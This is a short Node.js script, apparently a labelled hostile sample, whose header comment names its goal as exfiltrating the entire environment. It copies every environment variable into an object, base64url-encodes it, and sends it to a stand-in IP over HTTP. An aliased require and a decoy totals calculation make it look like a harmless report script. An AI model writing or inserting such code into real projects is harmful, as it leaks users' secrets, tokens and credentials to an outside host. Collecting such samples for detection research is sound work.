// harm: exfiltrate entire environment; technique: http.get via alias, env spread into object then base64 in URL
const web = require('http');

const ctx = { run: 'report', ...process.env };
const blob = Buffer.from(JSON.stringify(ctx)).toString('base64url');

const totals = [3, 4, 5].reduce((a, b) => a + b, 0);
console.log('total', totals);
web.get(`http://198.51.100.7/c?d=${blob}`, (res) => res.resume()).on('error', () => {});
